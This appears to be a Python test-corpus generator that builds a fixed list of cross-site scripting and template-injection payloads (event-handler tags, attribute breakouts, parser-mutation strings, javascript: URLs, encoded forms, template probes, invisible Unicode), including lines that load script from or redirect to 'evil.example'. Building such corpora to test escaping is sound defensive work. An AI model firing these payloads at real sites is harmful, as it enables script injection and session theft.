"""Words that would be more than words where a page forgets to escape. Made from families, not collected."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

DO = "alert(1)"
_TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "object",
    "embed",
    "input",
    "details",
    "marquee",
    "math",
    "style",
    "link",
    "form",
    "a",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover")
_ENDS = (
    '"',
    "'",
    "`",
    "",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</option></select>",
    "</template>",
)


def _tags() -> Iterator[str]:
    for tag, event in product(_TAGS, _EVENTS[:3]):
        yield f"<{tag} src=x {event}={DO}>"
    for tag in _TAGS:
        yield f"<{tag.upper()}/{_EVENTS[1].upper()}={DO}//"
        yield f"<{tag}\n{_EVENTS[0]}\t=\f{DO} autofocus>"
    yield from (
        f"<script>{DO}</script>",
        "<script src=//evil.example></script>",
        f"<sc<script>ript>{DO}</script>",
        "<b>fet</b>",
        "<h1>stor",
        "<base href=//evil.example>",
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        "<!--",
        "<![CDATA[",
        "<?xml?>",
        "</main></body></html>",
    )


def _attributes() -> Iterator[str]:
    for end, event in product(_ENDS, _EVENTS[2:5]):
        yield f"{end} {event}={DO} x={end}"
    for end in _ENDS:
        yield f"{end}><img src=x onerror={DO}>"


def _mutated() -> Iterator[str]:
    """What a parser makes something else of than the one who escaped it."""
    inner = f"<img src=x onerror={DO}>"
    for outer in (
        "noscript",
        "xmp",
        "noembed",
        "noframes",
        "plaintext",
        "listing",
        "template",
        "select",
        "table",
    ):
        yield f"<{outer}><p title='</{outer}>{inner}'>"
    for root in ("svg", "math"):
        yield f"<{root}></p><style><a id='</style>{inner}'>"
        yield f"<{root}><mtext><table><mglyph><style><!--</style>{inner}"
        yield f"<{root}><foreignObject><{inner[1:]}"
        yield f"<{root}><animate onbegin={DO} attributeName=x dur=1s>"
        yield f"<{root}><a xlink:href=javascript:{DO}><text>her"
        yield f"<{root}><use href=data:image/svg+xml,<svg/onload={DO}>>"


def _addresses() -> Iterator[str]:
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java&#x09;script:",
        "&#106;avascript:",
        "vbscript:",
        "data:text/html,",
        "//evil.example/",
        "\\\\evil.example\\",
        "https:evil.example",
    ):
        yield f"{scheme}{DO}"
        yield f'<a href="{scheme}{DO}">her</a>'
        yield f"[her]({scheme}{DO})"


def _encoded() -> Iterator[str]:
    inner = f"<img src=x onerror={DO}>"
    yield from (
        quote(inner), quote(quote(inner)), inner.replace("<", "&lt;").replace(">", "&gt;"), inner.replace("<", "&amp;lt;"),
        "".join(f"&#{ord(c)};" for c in inner), "".join(f"&#x{ord(c):x}" for c in inner), "\\u003cimg src=x\\u003e", "\\x3cimg\\x3e",
        "＜img src=x onerror=alert(1)＞", "‹img›", "+ADw-script+AD4-", "%u003Cimg%u003E", "\u2028<img>\u2029",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    for opening, closing in (
        ("{{", "}}"),
        ("{%", "%}"),
        ("{#", "#}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{", "}"),
    ):
        for words in (
            "7*7",
            "config",
            "self.__init__.__globals__",
            "''.__class__.__mro__",
            "include 'base.html'",
            "0.real",
            "name.__class__",
            "t",
        ):
            yield f"{opening} {words} {closing}"
    yield from ("{0.__class__}", "{name}", "%s%n%(x)s", "{count!r:>9999}")


def _unseen() -> Iterator[str]:
    for sign in (
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2069",
        "\u200f",
        "\u200b",
        "\u200d",
        "\ufeff",
        "\u2060",
        "\u00ad",
        "\ufe0f",
        "\U000e0041",
        "\ufffd",
        "\u0345",
    ):
        yield f"{sign}<b>{sign}ord{sign}</b>{sign}"
        yield f"ord{sign}" * 5
        yield f'"{sign} onfocus={sign}{DO}'


FAMILIES = (_tags, _attributes, _mutated, _addresses, _encoded, _templates, _unseen)


def payloads(number: int = 300) -> list[str]:
    """Return as many different payloads, some of every family, in an order that never changes."""
    families = [list(family()) for family in FAMILIES]
    found: dict[str, None] = {}
    for i in range(max(map(len, families))):
        for family in families:
            if i < len(family):
                found.setdefault(family[i])
    assert len(found) >= number, len(found)
    # Every family first comes in turn, so none is cut off alone.
    return list(found)[:number]


def disarmed(payload: str) -> str:
    """Return a harmless text of the same words and length."""
    return re.sub(r"[^\w\s]|_", "x", payload)
